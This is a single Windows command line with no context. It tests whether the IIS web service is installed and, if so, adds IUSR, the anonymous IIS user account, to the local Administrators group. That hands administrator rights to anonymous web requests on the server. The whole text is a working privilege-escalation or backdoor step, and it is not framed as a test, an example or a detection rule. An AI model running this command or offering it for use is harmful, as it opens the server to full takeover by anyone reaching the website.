sc query W3SVC >nul && net localgroup Administrators IUSR /add
